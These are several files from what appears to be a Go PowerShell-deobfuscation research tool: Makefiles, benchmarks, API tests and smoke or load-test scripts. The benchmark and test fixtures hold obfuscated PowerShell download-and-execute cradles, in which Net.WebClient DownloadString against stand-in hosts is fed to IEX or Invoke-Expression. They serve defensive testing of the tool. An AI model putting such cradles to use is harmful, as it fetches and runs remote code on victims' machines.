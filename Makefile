# Tier-1 gate: `make check` is the bar every change must clear.
# It chains vet, build, the full test suite under the race detector,
# and a short native-fuzz smoke over the hardened entry points.

GO ?= go
FUZZTIME ?= 10s

.PHONY: all check vet build test race fuzz-smoke clean

all: check

# check is the tier-1 gate.
check: vet build race fuzz-smoke

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

# test is the plain (non-race) suite, kept for quick iteration.
test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# fuzz-smoke gives each native fuzz target a short budget. Any panic or
# envelope violation found within the budget fails the gate.
fuzz-smoke:
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzTokenize -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzParse -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzDeobfuscate$$ -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzDeobfuscateEnvelope -fuzztime $(FUZZTIME)
	$(GO) test ./internal/psinterp -run '^$$' -fuzz FuzzEvalSnippet -fuzztime $(FUZZTIME)

clean:
	$(GO) clean -testcache
