# Tier-1 gate: `make check` is the bar every change must clear.
# It chains vet, build, the full test suite under the race detector,
# the engine-equivalence + parse-amortization guards, and a short
# native-fuzz smoke over the hardened entry points.

GO ?= go
FUZZTIME ?= 10s
BENCHCOUNT ?= 5

BENCHJSON ?= BENCH_pr3.json
PROFILEDIR ?= .profile

.PHONY: all check fmt vet build test race soak equivalence goldens fuzz-smoke serve-smoke loadtest loadtest-smoke gauntlet gauntlet-smoke bench-compare bench-json bench-contended bench-contended-smoke bench-pieces bench-pieces-smoke profile clean

all: check

# check is the tier-1 gate.
check: fmt vet build race soak equivalence serve-smoke loadtest-smoke gauntlet-smoke bench-contended-smoke bench-pieces-smoke fuzz-smoke

# fmt fails (and lists the offenders) when any file is not gofmt-clean.
fmt:
	@out=$$(gofmt -l .); if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

# test is the plain (non-race) suite, kept for quick iteration.
test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# soak runs the slow hostile-input variants that are opt-in (-soak test
# flag) so the default `go test ./...` stays fast. They still gate
# `make check`: the full coverage is not lost, just moved here.
soak:
	$(GO) test ./internal/pipeline -run TestOversizeHostileTextSoak -soak -count=1 -timeout 10m

# equivalence re-runs the refactor guards explicitly (they are also in
# the plain suite): byte-identical output against the frozen goldens of
# both language frontends, and the parses-per-run budget on the fixed
# 3-layer script.
equivalence:
	$(GO) test ./internal/core -run TestEquivalenceGolden -count=1
	$(GO) test ./internal/psfront -run TestParseCount -count=1
	$(GO) test ./internal/jsfront -run TestJSGolden -count=1

# goldens deliberately regenerates both frontends' golden suites from
# the current engine output. Run it only when an intentional behaviour
# change has been reviewed, and commit the diff.
goldens:
	$(GO) test ./internal/core -run TestEquivalenceGolden -update-golden -count=1
	$(GO) test ./internal/jsfront -run TestJSGolden -update-golden -count=1

# fuzz-smoke gives each native fuzz target a short budget. Any panic or
# envelope violation found within the budget fails the gate.
fuzz-smoke:
	$(GO) test ./internal/psfront -run '^$$' -fuzz FuzzTokenize -fuzztime $(FUZZTIME)
	$(GO) test ./internal/psfront -run '^$$' -fuzz FuzzParse -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzDeobfuscate$$ -fuzztime $(FUZZTIME)
	$(GO) test ./internal/core -run '^$$' -fuzz FuzzDeobfuscateEnvelope -fuzztime $(FUZZTIME)
	$(GO) test ./internal/psinterp -run '^$$' -fuzz FuzzEvalSnippet -fuzztime $(FUZZTIME)

# serve-smoke is the end-to-end binary check for the HTTP service:
# build deobserver, bind an ephemeral port, round-trip a script via
# curl, check /healthz and /statsz, then SIGTERM and verify a graceful
# drain.
serve-smoke:
	sh scripts/serve_smoke.sh

# loadtest floods a deliberately small local deobserver (1 worker,
# quotas on, aggressive shedding) with the full hostile traffic mix via
# cmd/loadgen and asserts that light traffic survives: success rate,
# p99 SLO, zero light 5xx. The JSON report is written to BENCH_pr6.json
# (override with BENCHJSON=...). loadtest-smoke is the seconds-scale
# variant gating `make check`: light traffic against a default-config
# server, full success required.
loadtest:
	sh scripts/loadtest.sh

loadtest-smoke:
	sh scripts/loadtest.sh smoke

# gauntlet runs the full profile-based obfuscation arms race: every
# sample of the deterministic 24-sample corpus x every profile x every
# wrapper depth up to 3, each cell obfuscated, deobfuscated, scored for
# residual obfuscation and executed in the sandbox for behavioral
# equivalence against the clean original. Writes the machine-readable
# gap report to GAUNTLET.json and exits non-zero when the run falls
# below the frozen baseline (pass-rate floor / residual-delta ceiling
# in internal/gauntlet/report.go). gauntlet-smoke is the seconds-scale
# variant gating `make check` (and CI): a smaller grid, same gate,
# report discarded.
gauntlet:
	$(GO) run ./cmd/gauntlet -n 24 -max-depth 3 -o GAUNTLET.json

gauntlet-smoke:
	$(GO) run ./cmd/gauntlet -n 6 -max-depth 2 -q -o .gauntlet_smoke.json
	rm -f .gauntlet_smoke.json

# bench-compare measures the single-script engine benchmark and the
# batch driver at 1/2/4 workers, writing bench.new. When a bench.old
# baseline exists and benchstat is installed the two are compared;
# otherwise copy bench.new to bench.old to set the baseline.
bench-compare:
	$(GO) test -run '^$$' -bench 'BenchmarkDeobfuscate$$|BenchmarkDeobfuscateBatch' \
		-count $(BENCHCOUNT) . | tee bench.new
	@if command -v benchstat >/dev/null 2>&1 && [ -f bench.old ]; then \
		benchstat bench.old bench.new; \
	elif [ -f bench.old ]; then \
		echo "benchstat not installed; compare bench.old and bench.new manually"; \
	else \
		echo "no baseline; run: cp bench.new bench.old"; \
	fi

# bench-json writes the machine-readable performance report (ns/op,
# allocs/op, parses/run, eval-cache hit rates and the PR 2 baseline
# deltas) consumed by the perf acceptance criteria.
bench-json:
	$(GO) run ./cmd/benchjson -o $(BENCHJSON)

# bench-contended measures the sharded cache tier under a
# many-goroutine workload at simulated multi-core GOMAXPROCS:
# single-mutex vs sharded parse cache, the duplicate-wave coalescing
# guarantee, and an in-process kill/restart cycle through the
# warm-restart snapshot. Writes BENCH_pr8.json. bench-contended-smoke
# is the seconds-scale variant gating `make check` (and CI): same
# scenarios, short measuring time, report discarded.
bench-contended:
	$(GO) run ./cmd/benchjson -contended -o BENCH_pr8.json

bench-contended-smoke:
	$(GO) run ./cmd/benchjson -contended -benchtime 30ms -o .bench_contended_smoke.json
	rm -f .bench_contended_smoke.json

# bench-pieces measures the batched-splice + parallel-piece recovery
# fixpoint against the frozen PR 8 baseline: parses/run on the 3-layer
# guard script, splice vs full-reparse counts over the 24-sample
# corpus, pieces evaluated on the worker pool, and ns per workload pass
# at 1 and >=4 simulated cores. Writes BENCH_pr9.json.
# bench-pieces-smoke is the seconds-scale variant gating `make check`
# (and CI): the mode itself exits non-zero when parses/run exceeds the
# budget of 8 or the splice fallback rate reaches 20%.
bench-pieces:
	$(GO) run ./cmd/benchjson -pieces -o BENCH_pr9.json

bench-pieces-smoke:
	$(GO) run ./cmd/benchjson -pieces -benchtime 30ms -o .bench_pieces_smoke.json
	rm -f .bench_pieces_smoke.json

# profile runs the CLI over the deterministic 24-sample corpus with CPU
# and allocation profiling enabled, leaving cpu.pprof / mem.pprof in
# $(PROFILEDIR) for `go tool pprof`.
profile:
	rm -rf $(PROFILEDIR)
	$(GO) run ./cmd/benchjson -emit-corpus $(PROFILEDIR)/corpus
	$(GO) run ./cmd/invoke-deobfuscation \
		-cpuprofile $(PROFILEDIR)/cpu.pprof -memprofile $(PROFILEDIR)/mem.pprof \
		$(PROFILEDIR)/corpus/*.ps1 > /dev/null
	@echo "profiles: $(PROFILEDIR)/cpu.pprof $(PROFILEDIR)/mem.pprof"

clean:
	$(GO) clean -testcache
	rm -f bench.new
	rm -rf $(PROFILEDIR)
