package invokedeob_test

import (
	"context"
	"fmt"
	"testing"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
	"github.com/invoke-deobfuscation/invokedeob/internal/experiments"
)

// Benchmarks regenerating each of the paper's tables and figures
// (quick configuration; cmd/benchtables runs the paper-scale versions).
// They double as end-to-end throughput measurements of the whole
// pipeline: corpus generation, five deobfuscators, scoring, IOC
// extraction and the behavioural sandbox.

// BenchmarkTable1 measures Table I: obfuscation-level prevalence
// detection over a generated corpus.
func BenchmarkTable1(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table1(experiments.Config{Samples: 200, Seed: int64(i + 1)})
		if res.Total == 0 {
			b.Fatal("empty corpus")
		}
	}
}

// BenchmarkTable2 measures Table II: the 20-technique x 5-tool x
// 3-position ability matrix.
func BenchmarkTable2(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table2(experiments.Config{Quick: true, Seed: int64(i + 1)})
		if len(res.Rows) == 0 {
			b.Fatal("no rows")
		}
	}
}

// BenchmarkFigure5 measures Fig. 5: key-information recovery of the
// five tools against ground truth.
func BenchmarkFigure5(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Figure5(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
		if res.Samples == 0 {
			b.Fatal("no samples")
		}
	}
}

// BenchmarkFigure6 measures Fig. 6: per-sample deobfuscation timing of
// the five tools.
func BenchmarkFigure6(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Figure6(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
		if len(res.Tools) == 0 {
			b.Fatal("no tools")
		}
	}
}

// BenchmarkTable3 measures Table III: multi-layer sample handling.
func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table3(experiments.Config{Quick: true, Samples: 6, Seed: int64(i + 1)})
		if res.Samples == 0 {
			b.Fatal("no multilayer samples")
		}
	}
}

// BenchmarkTable4 measures Table IV: behavioural-consistency checking
// through the sandbox.
func BenchmarkTable4(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table4(experiments.Config{Quick: true, Samples: 8, Seed: int64(i + 1)})
		if res.SamplesWithNetwork == 0 {
			b.Fatal("no networked samples")
		}
	}
}

// BenchmarkTable5 measures Table V: obfuscation mitigation scoring.
func BenchmarkTable5(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table5(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
		if res.Samples == 0 {
			b.Fatal("no samples")
		}
	}
}

// BenchmarkAblation measures the engine-variant comparison from
// DESIGN.md §6.
func BenchmarkAblation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Ablation(experiments.Config{Quick: true, Samples: 8, Seed: int64(i + 1)})
		if len(res.Variants) == 0 {
			b.Fatal("no variants")
		}
	}
}

// BenchmarkAMSIComparison measures the §V-B AMSI-vantage comparison.
func BenchmarkAMSIComparison(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.AMSIComparison(experiments.Config{Quick: true, Seed: int64(i + 1)})
		if len(res.Rows) == 0 {
			b.Fatal("no rows")
		}
	}
}

// BenchmarkDatasetFunnel measures the §IV-B1 preprocessing pipeline.
func BenchmarkDatasetFunnel(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.DatasetFunnel(experiments.Config{Samples: 60, Seed: int64(i + 1)})
		if res.Deduplicated == 0 {
			b.Fatal("empty funnel")
		}
	}
}

// Micro-benchmarks of the pipeline stages on the paper's case-study
// script.

const benchScript = "I`eX (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n" +
	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
	".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"

// BenchmarkDeobfuscate measures full three-phase deobfuscation of the
// case-study script.
func BenchmarkDeobfuscate(b *testing.B) {
	b.ReportAllocs()
	b.SetBytes(int64(len(benchScript)))
	for i := 0; i < b.N; i++ {
		if _, err := invokedeob.Deobfuscate(benchScript, nil); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDeobfuscateBatch measures the worker-pool batch driver over
// a 16-sample generated corpus at 1, 2 and 4 workers. The jobs=1 case
// is the sequential baseline; higher worker counts should approach
// linear speedup on idle machines (scripts are independent; the shared
// parse cache is the only cross-worker contact point).
func BenchmarkDeobfuscateBatch(b *testing.B) {
	samples := invokedeob.GenerateCorpus(1, 16)
	inputs := make([]invokedeob.BatchInput, len(samples))
	var total int
	for i, s := range samples {
		inputs[i] = invokedeob.BatchInput{Name: s.ID, Script: s.Source}
		total += len(s.Source)
	}
	for _, jobs := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("jobs=%d", jobs), func(b *testing.B) {
			opts := &invokedeob.Options{Jobs: jobs}
			b.ReportAllocs()
			b.SetBytes(int64(total))
			for i := 0; i < b.N; i++ {
				results := invokedeob.DeobfuscateBatch(context.Background(), inputs, opts)
				for _, r := range results {
					if r.Err != nil {
						b.Fatalf("%s: %v", r.Name, r.Err)
					}
				}
			}
		})
	}
}

// BenchmarkDeobfuscateBatchDuplicated measures the evaluation cache's
// raison d'être: malware corpora dominated by near-clone families. The
// 16-script batch holds only 4 distinct samples, each appearing 4
// times, so after the first member of a family every decoded piece
// should replay from the shared evaluation cache. The cache=off
// variant is the ablation baseline the speedup is measured against.
func BenchmarkDeobfuscateBatchDuplicated(b *testing.B) {
	samples := invokedeob.GenerateCorpus(1, 4)
	var inputs []invokedeob.BatchInput
	var total int
	for copyN := 0; copyN < 4; copyN++ {
		for _, s := range samples {
			inputs = append(inputs, invokedeob.BatchInput{
				Name:   fmt.Sprintf("%s#%d", s.ID, copyN),
				Script: s.Source,
			})
			total += len(s.Source)
		}
	}
	for _, cache := range []bool{true, false} {
		name := "cache=on"
		if !cache {
			name = "cache=off"
		}
		b.Run(name, func(b *testing.B) {
			opts := &invokedeob.Options{Jobs: 1, DisableEvalCache: !cache}
			b.ReportAllocs()
			b.SetBytes(int64(total))
			for i := 0; i < b.N; i++ {
				results := invokedeob.DeobfuscateBatch(context.Background(), inputs, opts)
				for _, r := range results {
					if r.Err != nil {
						b.Fatalf("%s: %v", r.Name, r.Err)
					}
				}
			}
		})
	}
}

// BenchmarkScore measures obfuscation-technique detection.
func BenchmarkScore(b *testing.B) {
	b.SetBytes(int64(len(benchScript)))
	for i := 0; i < b.N; i++ {
		invokedeob.ObfuscationScore(benchScript)
	}
}

// BenchmarkSandbox measures behavioural sandboxing.
func BenchmarkSandbox(b *testing.B) {
	b.SetBytes(int64(len(benchScript)))
	for i := 0; i < b.N; i++ {
		invokedeob.RunSandbox(benchScript)
	}
}

// BenchmarkObfuscate measures a representative L3 obfuscation.
func BenchmarkObfuscate(b *testing.B) {
	const clean = "(New-Object Net.WebClient).DownloadString('https://test.example/a.ps1') | Invoke-Expression"
	b.SetBytes(int64(len(clean)))
	for i := 0; i < b.N; i++ {
		if _, err := invokedeob.Obfuscate(clean, "encode-bxor", int64(i+1)); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGenerateCorpus measures wild-sample generation.
func BenchmarkGenerateCorpus(b *testing.B) {
	for i := 0; i < b.N; i++ {
		samples := invokedeob.GenerateCorpus(int64(i+1), 20)
		if len(samples) != 20 {
			b.Fatal("bad corpus")
		}
	}
}
