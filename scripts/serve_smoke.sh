#!/bin/sh
# serve_smoke.sh: end-to-end smoke test of the deobserver binary.
#
# Builds deobserver, starts it on an ephemeral port, round-trips one
# obfuscated script through POST /v1/deobfuscate, checks /healthz, then
# sends SIGTERM and verifies a graceful exit (drain + "deobserver
# stopped" on stdout, exit code 0).
#
# Exits non-zero (with a message on stderr) on any failure. Requires
# curl and a go toolchain; run from the repository root (make
# serve-smoke does).
set -eu

GO="${GO:-go}"
WORKDIR="$(mktemp -d)"
SERVER_PID=""

cleanup() {
    if [ -n "$SERVER_PID" ] && kill -0 "$SERVER_PID" 2>/dev/null; then
        kill -9 "$SERVER_PID" 2>/dev/null || true
    fi
    rm -rf "$WORKDIR"
}
trap cleanup EXIT

fail() {
    echo "serve-smoke: FAIL: $1" >&2
    [ -f "$WORKDIR/server.out" ] && sed 's/^/serve-smoke:   server: /' "$WORKDIR/server.out" >&2
    exit 1
}

echo "serve-smoke: building deobserver"
"$GO" build -o "$WORKDIR/deobserver" ./cmd/deobserver

"$WORKDIR/deobserver" -addr 127.0.0.1:0 >"$WORKDIR/server.out" 2>&1 &
SERVER_PID=$!

# The listen line ("deobserver listening on ADDR") appears once the
# socket is bound; poll briefly for it.
ADDR=""
i=0
while [ $i -lt 50 ]; do
    ADDR="$(sed -n 's/^deobserver listening on //p' "$WORKDIR/server.out" | head -n1)"
    [ -n "$ADDR" ] && break
    kill -0 "$SERVER_PID" 2>/dev/null || fail "server exited before binding"
    sleep 0.1
    i=$((i + 1))
done
[ -n "$ADDR" ] && echo "serve-smoke: server up on $ADDR" || fail "no listen line within 5s"
BASE="http://$ADDR"

# Liveness.
HEALTH="$(curl -sS -o "$WORKDIR/health.json" -w '%{http_code}' "$BASE/healthz")" \
    || fail "healthz request failed"
[ "$HEALTH" = "200" ] || fail "healthz returned $HEALTH"
grep -q '"status":"ok"' "$WORKDIR/health.json" || fail "healthz body: $(cat "$WORKDIR/health.json")"

# Round-trip one obfuscated script: a format-operator IEX wrapper whose
# recovered form must contain the plain command.
cat >"$WORKDIR/req.json" <<'EOF'
{"script":"IEX (\"Wri{0}e-Ho{1}t 'serve smoke'\" -f 't','s')"}
EOF
CODE="$(curl -sS -o "$WORKDIR/resp.json" -w '%{http_code}' \
    -H 'Content-Type: application/json' -d @"$WORKDIR/req.json" \
    "$BASE/v1/deobfuscate")" || fail "deobfuscate request failed"
[ "$CODE" = "200" ] || fail "deobfuscate returned $CODE: $(cat "$WORKDIR/resp.json")"
grep -q 'Write-Host' "$WORKDIR/resp.json" \
    || fail "recovered script missing deobfuscated command: $(cat "$WORKDIR/resp.json")"
echo "serve-smoke: deobfuscate round-trip ok"

# Stats surfaced the run.
curl -sS "$BASE/statsz" >"$WORKDIR/stats.json" || fail "statsz request failed"
grep -q '"parse_cache"' "$WORKDIR/stats.json" || fail "statsz missing parse_cache"

# Graceful shutdown: SIGTERM must drain and exit 0.
kill -TERM "$SERVER_PID"
EXIT=0
wait "$SERVER_PID" || EXIT=$?
[ "$EXIT" = "0" ] || fail "server exited $EXIT after SIGTERM"
grep -q 'deobserver stopped' "$WORKDIR/server.out" || fail "no clean-stop line after SIGTERM"
SERVER_PID=""
echo "serve-smoke: graceful shutdown ok"
echo "serve-smoke: PASS"
