#!/bin/sh
# loadtest.sh: drive the fault-injecting load harness (cmd/loadgen)
# against a locally-built deobserver and assert the overload SLOs.
#
# Two modes:
#
#   sh scripts/loadtest.sh          full mixed-flood run (make loadtest):
#       a deliberately small server (1 worker, short queue, quotas on,
#       aggressive shed high-water) is flooded with the default traffic
#       mix — light, duplicated, heavy base64 payloads, oversize bodies,
#       mid-body disconnects, slow-loris, quota key floods — and the
#       run fails unless light traffic survives: success rate above the
#       floor, p99 under the SLO, zero light 5xx. The JSON report lands
#       in $BENCHJSON (default BENCH_pr6.json).
#
#   sh scripts/loadtest.sh smoke    seconds-scale CI gate (make
#       loadtest-smoke): light+dup traffic only against a default-config
#       server; asserts full success and a loose p99. Proves the harness
#       and the serving path end to end without a long soak.
#
# Requires only the go toolchain; run from the repository root.
set -eu

GO="${GO:-go}"
MODE="${1:-full}"
BENCHJSON="${BENCHJSON:-BENCH_pr6.json}"
WORKDIR="$(mktemp -d)"
SERVER_PID=""

cleanup() {
    if [ -n "$SERVER_PID" ] && kill -0 "$SERVER_PID" 2>/dev/null; then
        kill -9 "$SERVER_PID" 2>/dev/null || true
    fi
    rm -rf "$WORKDIR"
}
trap cleanup EXIT

fail() {
    echo "loadtest: FAIL: $1" >&2
    [ -f "$WORKDIR/server.out" ] && tail -n 20 "$WORKDIR/server.out" | sed 's/^/loadtest:   server: /' >&2
    exit 1
}

echo "loadtest: building deobserver and loadgen"
"$GO" build -o "$WORKDIR/deobserver" ./cmd/deobserver
"$GO" build -o "$WORKDIR/loadgen" ./cmd/loadgen

if [ "$MODE" = "smoke" ]; then
    # Default-config server: no quotas, default shed threshold. Light
    # traffic only must be answered cleanly.
    "$WORKDIR/deobserver" -addr 127.0.0.1:0 >"$WORKDIR/server.out" 2>&1 &
else
    # A small server so a mixed flood actually saturates it: one
    # worker, short queue, a tight per-tenant quota (5 rps, burst 10 —
    # ordinary tenants stay under it, the quota-buster key does not),
    # and heavy requests shed once half the admission window is
    # occupied (slow-loris holds push occupancy over the line).
    "$WORKDIR/deobserver" -addr 127.0.0.1:0 \
        -workers 1 -queue 12 \
        -quota-rps 5 -quota-burst 10 -quota-buckets 64 \
        -heavy-cost 32768 -shed-highwater 0.5 \
        -max-script 1048576 -timeout 5s \
        >"$WORKDIR/server.out" 2>&1 &
fi
SERVER_PID=$!

ADDR=""
i=0
while [ $i -lt 50 ]; do
    ADDR="$(sed -n 's/^deobserver listening on //p' "$WORKDIR/server.out" | head -n1)"
    [ -n "$ADDR" ] && break
    kill -0 "$SERVER_PID" 2>/dev/null || fail "server exited before binding"
    sleep 0.1
    i=$((i + 1))
done
[ -n "$ADDR" ] || fail "no listen line within 5s"
echo "loadtest: server up on $ADDR ($MODE mode)"

if [ "$MODE" = "smoke" ]; then
    "$WORKDIR/loadgen" -url "http://$ADDR" \
        -qps 60 -duration 3s -workers 32 \
        -mix 'light=3,dup=1' -seed 1 \
        -assert-light-success 0.99 -assert-light-p99 2s -assert-max-light-5xx 0 \
        || fail "smoke SLO assertions failed"
else
    # The full flood. SLO floors: under a mixed hostile flood on a
    # saturated 1-worker server, light traffic (spread over 24 ordinary
    # tenants) must still succeed at least 70% of the time (the rest
    # are honest 429s with Retry-After, never 5xx), with served-light
    # p99 within 2s.
    "$WORKDIR/loadgen" -url "http://$ADDR" \
        -qps 120 -duration 12s -workers 96 -tenants 24 \
        -seed 1 -json "$BENCHJSON" \
        -assert-light-success 0.7 -assert-light-p99 2s -assert-max-light-5xx 0 \
        || fail "flood SLO assertions failed (report: $BENCHJSON)"

    # The flood must also have exercised the defenses: the report has
    # to show quota 429s and heavy sheds, or the run proved nothing.
    grep -q '"quota"' "$BENCHJSON" || fail "report missing quota rejections"
    grep -q '"shed-heavy"' "$BENCHJSON" || fail "report missing heavy sheds"
    echo "loadtest: defenses exercised (quota rejections + heavy sheds present in $BENCHJSON)"
fi

# Graceful shutdown still works after the flood.
kill -TERM "$SERVER_PID"
EXIT=0
wait "$SERVER_PID" || EXIT=$?
[ "$EXIT" = "0" ] || fail "server exited $EXIT after SIGTERM"
grep -q 'deobserver stopped' "$WORKDIR/server.out" || fail "no clean-stop line after SIGTERM"
SERVER_PID=""
echo "loadtest: graceful shutdown after flood ok"
echo "loadtest: PASS ($MODE)"
