package invokedeob_test

import (
	"strings"
	"testing"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
)

func TestDeobfuscatePublicAPI(t *testing.T) {
	src := "I`eX (\"{1}{0}\" -f 'ost public', 'write-h')"
	res, err := invokedeob.Deobfuscate(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Script, "Write-Host public") {
		t.Errorf("script = %q", res.Script)
	}
	if res.Stats.PiecesRecovered == 0 || res.Stats.LayersUnwrapped == 0 {
		t.Errorf("stats = %+v", res.Stats)
	}
}

func TestDeobfuscateInvalidInput(t *testing.T) {
	if _, err := invokedeob.Deobfuscate("while (", nil); err == nil {
		t.Error("expected error for invalid syntax")
	}
	if invokedeob.ValidSyntax("while (") {
		t.Error("ValidSyntax accepted garbage")
	}
	if !invokedeob.ValidSyntax("while ($x) { }") {
		t.Error("ValidSyntax rejected valid script")
	}
}

func TestObfuscateRoundTripPublicAPI(t *testing.T) {
	const payload = "write-host api-test"
	for _, tech := range invokedeob.Techniques() {
		if tech == "random-name" || tech == "alias" || tech == "encode-whitespace" {
			continue
		}
		obf, err := invokedeob.Obfuscate(payload, tech, 5)
		if err != nil {
			t.Errorf("Obfuscate(%s): %v", tech, err)
			continue
		}
		res, err := invokedeob.Deobfuscate(obf, nil)
		if err != nil {
			t.Errorf("Deobfuscate after %s: %v", tech, err)
			continue
		}
		if !strings.Contains(strings.ToLower(res.Script), payload) {
			t.Errorf("%s: not recovered: %q", tech, res.Script)
		}
	}
}

func TestAnalyzeAndScore(t *testing.T) {
	obf, err := invokedeob.Obfuscate("write-host x", "encode-bxor", 2)
	if err != nil {
		t.Fatal(err)
	}
	if invokedeob.ObfuscationScore(obf) == 0 {
		t.Error("obfuscated script scored 0")
	}
	found := false
	for _, d := range invokedeob.AnalyzeObfuscation(obf) {
		if d.Technique == "encode-bxor" && d.Level == 3 {
			found = true
		}
	}
	if !found {
		t.Errorf("bxor not detected: %+v", invokedeob.AnalyzeObfuscation(obf))
	}
}

func TestTechniqueLevels(t *testing.T) {
	if invokedeob.TechniqueLevel("ticking") != 1 ||
		invokedeob.TechniqueLevel("concat") != 2 ||
		invokedeob.TechniqueLevel("securestring") != 3 {
		t.Error("levels wrong")
	}
	if invokedeob.TechniqueLevel("nope") != 0 {
		t.Error("unknown technique level")
	}
	if len(invokedeob.Techniques()) < 17 {
		t.Errorf("techniques = %d", len(invokedeob.Techniques()))
	}
}

func TestExtractIOCsPublic(t *testing.T) {
	iocs := invokedeob.ExtractIOCs("(New-Object Net.WebClient).DownloadString('http://bad.test/x.ps1') # 203.0.113.77")
	if len(iocs.URLs) != 1 || len(iocs.IPs) != 1 || len(iocs.Ps1Files) != 1 {
		t.Errorf("iocs = %+v", iocs)
	}
	if iocs.Count() != 3 {
		t.Errorf("count = %d", iocs.Count())
	}
}

func TestSandboxPublic(t *testing.T) {
	rep := invokedeob.RunSandbox("(New-Object Net.WebClient).downloadstring('http://api.test/x')")
	if len(rep.NetworkEvents()) == 0 {
		t.Errorf("no network events: %+v", rep.Events)
	}
	if !invokedeob.BehaviorConsistent(
		"(New-Object Net.WebClient).downloadstring('http://same.test/')",
		"$u='http://same.test/'; (New-Object Net.WebClient).downloadstring($u)") {
		t.Error("equivalent scripts inconsistent")
	}
	if invokedeob.BehaviorConsistent("write-host a", "(New-Object Net.WebClient).downloadstring('http://x.test/')") {
		t.Error("different behaviour reported consistent")
	}
}

func TestGenerateCorpusPublic(t *testing.T) {
	samples := invokedeob.GenerateCorpus(7, 15)
	if len(samples) != 15 {
		t.Fatalf("samples = %d", len(samples))
	}
	for _, s := range samples {
		if !invokedeob.ValidSyntax(s.Source) {
			t.Errorf("%s: invalid syntax", s.ID)
		}
		if s.Original == "" || s.Family == "" {
			t.Errorf("%s: incomplete metadata", s.ID)
		}
	}
	again := invokedeob.GenerateCorpus(7, 15)
	if samples[3].Source != again[3].Source {
		t.Error("corpus not deterministic")
	}
}

// TestEndToEndWildSample is the full workflow: generate, deobfuscate,
// verify IOCs and behaviour.
func TestEndToEndWildSample(t *testing.T) {
	for _, s := range invokedeob.GenerateCorpus(1234, 10) {
		res, err := invokedeob.Deobfuscate(s.Source, nil)
		if err != nil {
			t.Errorf("%s: %v", s.ID, err)
			continue
		}
		if !invokedeob.BehaviorConsistent(s.Source, res.Script) {
			t.Errorf("%s: behaviour diverged", s.ID)
		}
	}
}

func TestOptionsAblation(t *testing.T) {
	src := "$p = 'pa'+'rt'\nwrite-host $p"
	full, err := invokedeob.Deobfuscate(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	noTrace, err := invokedeob.Deobfuscate(src, &invokedeob.Options{DisableVariableTracing: true})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(full.Script, "'part'") {
		t.Errorf("full engine: %q", full.Script)
	}
	if strings.Contains(noTrace.Script, "Write-Host 'part'") {
		t.Errorf("tracing disabled but inlined: %q", noTrace.Script)
	}
}
