module github.com/invoke-deobfuscation/invokedeob

go 1.22
