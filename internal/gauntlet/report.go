package gauntlet

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Case outcomes.
const (
	// OutcomePass: deobfuscation succeeded and the recovered script is
	// behaviorally equivalent to the original.
	OutcomePass = "pass"
	// OutcomeObfError: the obfuscator itself failed (a generator bug).
	OutcomeObfError = "obf-error"
	// OutcomeObfSkipped: no technique of the drawn stack applied; the
	// case is excluded from the pass-rate denominator.
	OutcomeObfSkipped = "obf-skipped"
	// OutcomeDeobError: the engine errored or blew the envelope.
	OutcomeDeobError = "deob-error"
	// OutcomeDiverged: recovery succeeded but observable behaviour
	// changed — the worst failure class, a semantics bug.
	OutcomeDiverged = "behavior-diverged"
	// OutcomeObfDiverged: the obfuscated input itself behaves
	// differently from the clean original, and the recovered script
	// reproduces the input's behaviour exactly. The engine preserved
	// the semantics it was given; the defect is in the generator (or
	// the sandbox's fidelity running the wrapped form), so the case is
	// excluded from the engine pass-rate denominator but kept visible
	// in the report and the worst-offender list.
	OutcomeObfDiverged = "obf-diverged"
)

// Frozen baseline, recorded when the gauntlet landed. `make gauntlet`
// (and the CI smoke) exit non-zero when a run drops below these: the
// overall pass rate across the full default grid, and the ceiling on
// the mean residual-obfuscation delta (recovered score minus clean
// score, averaged over all scored cases). Raise the floor when the
// engine improves; never lower it to paper over a regression.
// At freeze time the default grid (seed 7, 24 samples, depth <= 3, all
// five profiles, 240 cases) measured a 100% pass rate and a mean
// residual delta of -0.33 (negative: recovery also folds legitimate
